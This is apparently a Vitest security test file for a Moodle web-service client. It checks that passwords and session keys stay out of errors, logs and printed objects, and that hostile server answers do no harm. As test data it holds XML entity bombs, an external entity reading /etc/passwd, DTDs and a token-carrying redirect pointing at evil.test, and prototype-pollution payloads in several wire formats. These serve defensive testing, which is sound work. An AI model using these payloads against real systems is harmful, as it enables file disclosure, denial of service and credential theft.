/** No secret in anything that a person or a log may see, and nothing hostile in an answer does harm. */
import { Buffer } from "node:buffer";
import { inspect } from "node:util";
import { describe, expect, it } from "vitest";
import { connect, openRemote } from "../src/client/connect.js";
import type { WsppClient } from "../src/client/facade.js";
import type { ConnectOptions } from "../src/client/options.js";
import { extraOf } from "../src/contract/aside.js";
import { dialectTable } from "../src/contract/dialects.js";
import type { RestFormat } from "../src/contract/language.js";
import { isWsppError } from "../src/errors.js";
import { decodeRestRequest } from "../src/wire/rest/index.js";
import { decodeSoapRequest } from "../src/wire/soap/received.js";
import {
  restLogin,
  type Script,
  type SeenRequest,
  scriptedSite,
  soapAnswer,
  soapFault,
  soapInt,
  soapLogin,
  soapRecords,
} from "./fixtures/scripted-site.js";

const KEY = "4f1d9c02e7b35a886c4d0e9f7a1b2c3d";
const PASSWORD = `Pa&ss "wörd" 4711>x'y`;
const NEW_PASSWORD = "Neu+es/Pass%wort\\9é";
const MD5 = "0cc175b9c0f1b6a831c399e269772661";
const SECRETS = [KEY, PASSWORD, NEW_PASSWORD, MD5];

/** The ways in which a secret may be written down, and beginnings and ends of it that tell most of it. */
function spellings(secret: string): string[] {
  const xml = secret.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
  const json = JSON.stringify(secret).slice(1, -1);
  const whole = [
    secret,
    xml,
    xml.replaceAll('"', "&quot;"),
    json,
    encodeURIComponent(secret),
    encodeURIComponent(secret).replaceAll("%20", "+"),
    json.replaceAll("/", "\\/"),
  ];
  return [...whole, secret.slice(0, 14), secret.slice(-14), Buffer.from(secret).toString("base64")];
}

/** Everything that shows an object to a person. */
function shown(thing: unknown): string {
  const texts = [
    inspect(thing, { depth: 20, showHidden: true, maxStringLength: null, maxArrayLength: null }),
    String(JSON.stringify(thing) ?? ""),
  ];
  for (let error: unknown = thing; error instanceof Error; error = error.cause) {
    texts.push(error.message, error.stack ?? "", JSON.stringify(error), inspect(error), ...Object.values(error).map(String));
  }
  return texts.join("\n");
}

function expectNoSecret(thing: unknown, what: string): void {
  const text = typeof thing === "string" ? thing : shown(thing);
  for (const secret of SECRETS) {
    for (const spelling of spellings(secret)) {
      const at = text.indexOf(spelling);
      expect(at < 0 ? "" : text.slice(Math.max(0, at - 80), at + 60), `${what} shows a secret`).toBe("");
    }
  }
}

interface Watched {
  readonly options: ConnectOptions;
  readonly seen: SeenRequest[];
  /** What hooks and notices were told. */
  readonly told: unknown[];
}

function watched(script: Script, options: Partial<ConnectOptions> = {}): Watched {
  const told: unknown[] = [];
  const { fetch, seen } = scriptedSite(script);
  const hooks = {
    onRequest: (trace: unknown) => told.push(trace),
    onAnswer: (trace: unknown) => told.push(trace),
    onNotice: (notice: unknown) => told.push(notice),
  };
  return {
    seen,
    told,
    options: {
      url: "http://moodle.test/lms",
      username: "wsaccess",
      password: PASSWORD,
      fetch,
      retry: { attempts: 1 },
      ...hooks,
      ...options,
    },
  };
}

async function thrown(act: () => Promise<unknown>): Promise<unknown> {
  try {
    await act();
  } catch (error) {
    if (isWsppError(error)) return error;
    throw error;
  }
  return undefined;
}

/** What a careless or hostile site may say, with what it was sent in it. */
const ECHOES: readonly { readonly name: string; readonly say: (sent: string, body: string) => string | Response }[] = [
  { name: "a fault of the plugin", say: (sent) => soapFault(`no access with ${sent} for you`) },
  {
    name: "a fault of PHP with details",
    say: (sent) => fault500(`Uncaught ${sent} in x.php`, `Stack: login('wsaccess', '${sent}') #0`),
  },
  {
    name: "a fault cut in the middle of it",
    say: (sent) =>
      new Response(
        `<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body><SOAP-ENV:Fault><faultcode>X</faultcode><faultstring>with ${sent.slice(0, -2)}`,
      ),
  },
  {
    name: "a page with the body",
    say: (_, body) =>
      new Response(`<html><head><title>Error ${body}</title></head><body>You sent ${body}</body></html>`, {
        status: 500,
        headers: { "content-type": "text/html" },
      }),
  },
  {
    name: "a page with it in the title",
    say: (sent) =>
      new Response(`<!DOCTYPE html><html><head><title>no ${sent}</title></head><body>${"x".repeat(150)} ${sent}</body></html>`, {
        status: 403,
      }),
  },
  { name: "plain words", say: (sent) => new Response(`Fatal error: ${sent}`, { status: 500 }) },
  {
    name: "plain words cut in the middle of it",
    say: (sent) => new Response(`${"w".repeat(60)} ${sent} ${sent}`, { status: 500 }),
  },
  { name: "the body itself", say: (_, body) => body },
  { name: "half of the body", say: (_, body) => body.slice(0, body.length - 60) },
  { name: "junk before an answer", say: (sent, body) => `Notice: undefined index: x ${sent} ${body} in a.php on line 3\n` },
  { name: "an ampersand before it", say: (sent) => soapAnswer("get_my_id", `<return>&${sent}</return>`) },
  { name: "it in a number", say: (sent) => soapAnswer("get_my_id", `<return xsi:type="xsd:int">${xmlOf(sent)}</return>`) },
  { name: "it as an element", say: (sent) => soapAnswer("get_my_id", `<${sent}>x</return>`) },
  { name: "it as a type", say: (sent) => soapAnswer("get_my_id", `<return xsi:type="${xmlOf(sent)}">x</return>`) },
  { name: "it as a reference", say: (sent) => soapAnswer("get_my_id", `<return href="#${xmlOf(sent)}"/>`) },
  {
    name: "a wrong encoding named after it",
    say: (sent) => `<?xml version="1.0" encoding="x${sent.replace(/[^A-Za-z0-9]/g, "")}"?><a/>`,
  },
  {
    name: "an exception of REST",
    say: (sent) =>
      `<?xml version="1.0" encoding="UTF-8" ?>\n<EXCEPTION class="${sent}">\n<MESSAGE>Wspp Rest Server :bad ${sent}</MESSAGE>\n<DEBUGINFO>SELECT '${sent}'</DEBUGINFO>\n</EXCEPTION>\n`,
  },
  { name: "a text of dump", say: (sent) => `Wspp Rest Server :bad ${sent} - ` },
  { name: "json that is none", say: (sent) => `{"a":"${sent}` },
  { name: "json with it as the value", say: (sent) => JSON.stringify(sent) },
  { name: "serialized text of a wrong length", say: (sent) => `s:3:"${sent}";` },
  { name: "a serialized text", say: (sent) => `s:${Buffer.byteLength(sent)}:"${sent}";` },
  { name: "xml with it as the value", say: (sent) => `<RESPONSE>\n<VALUE>${sent}</VALUE>\n</RESPONSE>\n` },
  { name: "xml with it in a wrong place", say: (sent) => `<RESPONSE>\n<VALUE>1</VALUE>\n${sent}</RESPONSE>\n` },
  {
    name: "a redirect to an address with it",
    say: (sent) =>
      new Response(null, {
        status: 302,
        headers: { location: `http://evil.test/?token=${encodeURIComponent(sent)}&x=${encodeURIComponent(sent)}` },
      }),
  },
  { name: "nothing", say: () => new Response(null, { status: 500 }) },
  {
    name: "headers with it",
    say: (sent) =>
      new Response("<html></html>", {
        status: 500,
        headers: { "x-sent": encodeURIComponent(sent), "set-cookie": `s=${encodeURIComponent(sent)}` },
      }),
  },
];

function xmlOf(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
}

function fault500(text: string, detail: string): Response {
  const body = `<?xml version="1.0" encoding="UTF-8"?>\n<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body><SOAP-ENV:Fault><faultcode>SOAP-ENV:Server</faultcode><faultstring>${xmlOf(text)}</faultstring><detail>${xmlOf(detail)}</detail></SOAP-ENV:Fault></SOAP-ENV:Body></SOAP-ENV:Envelope>`;
  return new Response(body, { status: 500 });
}

const ROUTES: readonly (Partial<ConnectOptions> & { readonly name: string })[] = [
  { name: "SOAP simplified", protocol: "soap" },
  { name: "SOAP classic", protocol: "soap", dialect: "classic" },
  ...(["json", "xml", "php", "dump"] as const).map((format) => ({ name: `REST ${format}`, protocol: "rest" as const, format })),
  { name: "REST single-shot", protocol: "rest", session: "single-shot", format: "json" },
];

function loginFor({ protocol }: Partial<ConnectOptions>, request: SeenRequest): string {
  if (protocol === "soap") return soapLogin(7, KEY);
  if (request.by !== "dump") return restLogin(7, KEY);
  return `<pre>loginReturn Object\n(\n    [client] => 7\n    [sessionkey] => ${KEY}\n)\n</pre>`;
}

describe.each(ROUTES)("over $name", ({ name: _, ...route }) => {
  it.each(ECHOES)("a login answered with $name shows no password", async ({ say }) => {
    if (route.session === "single-shot") return;
    const { options, told } = watched(({ body }) => say(PASSWORD, body), route);
    const error = await thrown(() => connect(options));
    expect(isWsppError(error)).toBe(true);
    expectNoSecret(error, "the error");
    for (const each of told) expectNoSecret(each, "a trace");
  });

  it.each(ECHOES)("a call answered with $name shows no session key and no password", async ({ say }) => {
    const secret = route.session === "single-shot" ? PASSWORD : KEY;
    const { options, told } = watched(
      (request) => (request.operation === "login" ? loginFor(route, request) : say(secret, request.body)),
      route,
    );
    const moodle = await connect(options);
    for (const call of [
      () => moodle.get_my_id(),
      () => moodle.get_users({ userids: ["a"] }),
      () => moodle.delete_course({ courseid: "1", courseidfield: "id" } as never),
      () => collected(moodle),
    ]) {
      const error = await thrown(call);
      if (error !== undefined) expectNoSecret(error, "the error");
    }
    for (const each of told) expectNoSecret(each, "a trace");
    expectNoSecret(moodle, "the client");
  });

  it.each(ECHOES)("a new account's password answered with $name is not shown", async ({ say }) => {
    const { options, told } = watched(
      (request) => (request.operation === "login" ? loginFor(route, request) : say(NEW_PASSWORD, request.body)),
      { ...route, allow: ["rest-slashes"] },
    );
    const moodle = await connect(options);
    const datum = { action: "add", username: "x", password: NEW_PASSWORD, passwordmd5: MD5 };
    for (const call of [() => moodle.edit_users({ users: [datum] }), () => moodle.add_user({ userdatum: datum } as never)]) {
      const error = await thrown(call);
      if (error !== undefined) expectNoSecret(error, "the error");
    }
    for (const each of told) expectNoSecret(each, "a trace");
  });
});

async function collected(moodle: WsppClient): Promise<unknown[]> {
  const items: unknown[] = [];
  for await (const item of moodle.stream("get_users", { userids: ["a"] })) items.push(item);
  return items;
}

describe("what a program may print", () => {
  const login: Script = ({ operation }) => (operation === "login" ? soapLogin(7, KEY) : soapInt(operation, 3));

  it("shows no secret: the client, the connection behind it, a session given by hand", async () => {
    for (const session of ["kept", { client: 7, sessionkey: KEY }, "single-shot"] as const) {
      const { options } = watched(login, session === "kept" ? {} : { session });
      const connection = await openRemote(options);
      expectNoSecret(connection, `a connection with session ${typeof session === "string" ? session : "by hand"}`);
      const moodle = await connect(options);
      expectNoSecret(moodle, "a client");
      await moodle.close();
      await connection.close();
    }
  });

  it("shows no password in a report, whose data still hold it for the program", async () => {
    const { options } = watched(({ operation }) =>
      operation === "login"
        ? soapLogin(7, KEY)
        : soapRecords(operation, "userRecord", [
            { id: 5, error: "" },
            { id: 0, error: `bad password ${NEW_PASSWORD.replaceAll("&", "&amp;")}` },
          ]),
    );
    const moodle = await connect(options);
    const users = [1, 2].map((number) => ({ action: "add", username: `u${number}`, password: NEW_PASSWORD, passwordmd5: MD5 }));
    const report = await moodle.edit_users({ users });
    expect(report.outcomes.map(({ status, datum }) => [status, datum.password])).toEqual([
      ["ok", NEW_PASSWORD],
      ["error", NEW_PASSWORD],
    ]);
    expectNoSecret(JSON.stringify(report), "the report as JSON");
    expectNoSecret(inspect(report, { depth: 20 }), "the report");
    expectNoSecret(inspect(report.failed, { depth: 20 }) + JSON.stringify(report.failed), "the failed outcomes");
    const error = await thrown(() => Promise.resolve().then(() => report.throwIfFailed()));
    expectNoSecret(error, "the error of the report");
  });

  it("shows no password when the call was refused before it was sent", async () => {
    const { options } = watched(login);
    const moodle = await connect(options);
    for (const call of [
      () => moodle.edit_users({ users: [{ action: "add", password: { [NEW_PASSWORD]: 1 } as never }] }),
      () => moodle.edit_users({ users: [{ action: "add", password: `${NEW_PASSWORD}\u0001` }] }),
      () => moodle.edit_users({ users: [{ action: "add", passwordmd5: [MD5] as never }] }),
      () => moodle.call("get_my_id", { sesskey: KEY }),
      () => moodle.call("login", { username: "x", password: NEW_PASSWORD }),
    ]) {
      const error = await thrown(call);
      expect(isWsppError(error)).toBe(true);
      expectNoSecret(error, "the error");
    }
    const refused = [
      { password: `${NEW_PASSWORD}<x` },
      { session: { client: 7, sessionkey: `${KEY}!` } },
      { url: `http://wsaccess:${encodeURIComponent(NEW_PASSWORD)}@moodle.test/` },
    ];
    for (const wrong of refused) expectNoSecret(await thrown(() => connect({ ...options, ...wrong })), "the error");
  });

  it("shows no secret when the connection breaks", async () => {
    const failures = [
      new TypeError("fetch failed", { cause: new Error(`connect ECONNREFUSED with ${PASSWORD}`) }),
      new Error(`weird ${PASSWORD} ${encodeURIComponent(PASSWORD)}`),
    ];
    for (const failure of failures) {
      const { options, told } = watched(() => Promise.reject(failure));
      expectNoSecret(await thrown(() => connect(options)), "the error");
      for (const each of told) expectNoSecret(each, "a trace");
    }
  });
});

describe("a hostile answer", () => {
  const answeredWith = async (
    answer: string | Response,
    route: Partial<ConnectOptions> = {},
    operation = "get_users",
  ): Promise<unknown> => {
    const { options } = watched((request) => (request.operation === "login" ? loginFor(route, request) : answer), route);
    const moodle = await connect(options);
    return moodle.call(operation, { userids: ["a"], idfield: "username" });
  };

  it.each([
    ["entities that grow", `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>`],
    ["an entity from a file", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`],
    ["a document type from elsewhere", `<!DOCTYPE x SYSTEM "http://evil.test/x.dtd">`],
    ["a parameter entity", `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>`],
    ["a bare document type", "<!DOCTYPE x>"],
  ])("with %s is refused, and nothing of it is followed", async (_, doctype) => {
    const text = soapRecords("get_users", "userRecord", [{ username: "&c;&e;" }]);
    for (const answer of [text.replace("?>\n", `?>\n${doctype}`), text.replace("<SOAP-ENV:Body>", `<SOAP-ENV:Body>${doctype}`)]) {
      const { options, seen } = watched(({ operation }) => (operation === "login" ? soapLogin(7, KEY) : answer));
      const error = await thrown(async () => (await connect(options)).get_users({ userids: ["a"] }));
      expect(error).toMatchObject({ name: "DecodeError", message: expect.stringContaining("DOCTYPE") });
      expect(seen).toHaveLength(2);
    }
  });

  const names = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf"];
  const members = (wrap: (name: string) => string): string => names.map(wrap).join("");
  const bodies: readonly [name: string, route: Partial<ConnectOptions>, body: string][] = [
    [
      "SOAP",
      { protocol: "soap" },
      soapAnswer(
        "get_users",
        `<get_usersReturn SOAP-ENC:arrayType="ns1:userRecord[1]" xsi:type="ns1:userRecordArray"><item xsi:type="ns1:userRecord"><id xsi:type="xsd:int">5</id>${members((name) => `<${name} xsi:type="xsd:string">polluted</${name}>`)}<__proto__><polluted>yes</polluted></__proto__></item></get_usersReturn>`,
      ),
    ],
    [
      "json",
      { protocol: "rest", format: "json" },
      `[{"id":"5",${names.map((name) => `"${name}":{"polluted":"yes"}`).join(",")}}]`,
    ],
    [
      "php",
      { protocol: "rest", format: "php" },
      `a:1:{i:0;O:8:"stdClass":${names.length + 1}:{s:2:"id";s:1:"5";${members((name) => `s:${name.length}:"${name}";a:1:{s:8:"polluted";s:3:"yes";}`)}}}`,
    ],
    [
      "xml",
      { protocol: "rest", format: "xml" },
      `<RESPONSE>\n<MULTIPLE>\n<SINGLE>\n<KEY name="id"><VALUE>5</VALUE>\n</KEY>\n${members((name) => `<KEY name="${name}"><SINGLE>\n<KEY name="polluted"><VALUE>yes</VALUE>\n</KEY>\n</SINGLE>\n</KEY>\n`)}</SINGLE>\n</MULTIPLE>\n</RESPONSE>\n`,
    ],
    [
      "dump",
      { protocol: "rest", format: "dump" },
      `<pre>Array\n(\n    [0] => stdClass Object\n        (\n            [id] => 5\n${members((name) => `            [${name}] => polluted\n`)}        )\n\n)\n</pre>`,
    ],
  ];

  it.each(bodies)("in %s with members named __proto__ and constructor does no harm", async (_, route, body) => {
    const [record] = (await answeredWith(new Response(body), route)) as Record<string, unknown>[];
    expect(record).toMatchObject({ id: 5, username: "" });
    expect(Object.getPrototypeOf(record)).toBe(Object.prototype);
    expect((record as { polluted?: unknown }).polluted).toBeUndefined();
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect(Object.keys(record!)).not.toContain("__proto__");
    const extra = extraOf(record!);
    expect((extra as { polluted?: unknown }).polluted).toBeUndefined();
    expect(`${String(record)}`).toBe("[object Object]");
  });

  it.each(["json", "php", "xml", "dump"] as readonly RestFormat[])(
    "in %s never hands out a password's hash beside a record",
    async (format) => {
      const bodies_: Record<RestFormat, string> = {
        json: `[{"id":"5","password":"${MD5}","secret":"${KEY}","nested":{"password":"${MD5}"}}]`,
        php: `a:1:{i:0;O:8:"stdClass":3:{s:2:"id";s:1:"5";s:8:"password";s:32:"${MD5}";s:6:"secret";s:32:"${KEY}";}}`,
        xml: `<RESPONSE>\n<MULTIPLE>\n<SINGLE>\n<KEY name="id"><VALUE>5</VALUE>\n</KEY>\n<KEY name="password"><VALUE>${MD5}</VALUE>\n</KEY>\n<KEY name="secret"><VALUE>${KEY}</VALUE>\n</KEY>\n</SINGLE>\n</MULTIPLE>\n</RESPONSE>\n`,
        dump: `<pre>Array\n(\n    [0] => stdClass Object\n        (\n            [id] => 5\n            [password] => ${MD5}\n            [secret] => ${KEY}\n        )\n\n)\n</pre>`,
      };
      const [record] = (await answeredWith(new Response(bodies_[format]), { protocol: "rest", format })) as object[];
      expectNoSecret([record, extraOf(record!)], "the record");
    },
  );
});

describe("a hostile request", () => {
  const envelope = (call: string): Buffer =>
    Buffer.from(
      `<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:m="http://xml.apache.org/xml-soap"><e:Body>${call}</e:Body></e:Envelope>`,
    );

  it("with a document type is refused", () => {
    const bomb = Buffer.concat([
      Buffer.from('<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'),
      envelope("<get_my_id>&b;</get_my_id>"),
    ]);
    expect(() => decodeSoapRequest(bomb, dialectTable("simplified"))).toThrow("DOCTYPE");
  });

  it("whose references make it endless or huge is refused", () => {
    const read = (call: string) => () =>
      decodeSoapRequest(envelope(call), dialectTable("simplified"), { limits: { items: 10_000 } });
    expect(read('<get_users><userids id="a"><item href="#a"/></userids></get_users>')).toThrow("refers to itself");
    const levels = Array.from(
      { length: 20 },
      (_, level) => `<m id="l${level}">${`<item href="#l${level + 1}"/>`.repeat(10)}</m>`,
    );
    expect(read(`<unknown><x href="#l0"/></unknown>${levels.join("")}<m id="l20"/>`)).toThrow("too many values");
    expect(read(`<get_users>${"<userids>".repeat(5_000)}`)).toThrow();
  });

  it("with members named __proto__ does no harm", () => {
    const map =
      '<userdatum xsi:type="m:Map"><item><key>__proto__</key><value xsi:type="m:Map"><item><key>polluted</key><value>yes</value></item></value></item></userdatum>';
    const struct = "<userdatum><__proto__><polluted>yes</polluted></__proto__><username>x</username></userdatum>";
    const values = [map, struct].map((datum) => {
      const { parts } = decodeSoapRequest(
        envelope(`<add_user><client>1</client>${datum}</add_user>`),
        dialectTable("simplified"),
      );
      return parts[1]!.value as object;
    });
    expect(Object.hasOwn(values[0]!, "__proto__")).toBe(true);
    expect(values[1]).toEqual({ username: "x" });
    const body = Buffer.from("__proto__[polluted]=yes&users[0][__proto__][polluted]=yes&constructor[prototype][polluted]=yes");
    const variables = decodeRestRequest({ body, contentType: "application/x-www-form-urlencoded" });
    expect([...variables.keys()]).toEqual(["__proto__", "users", "constructor"]);
    for (const value of [...values, {}]) {
      expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
      expect((value as { polluted?: unknown }).polluted).toBeUndefined();
    }
  });
});
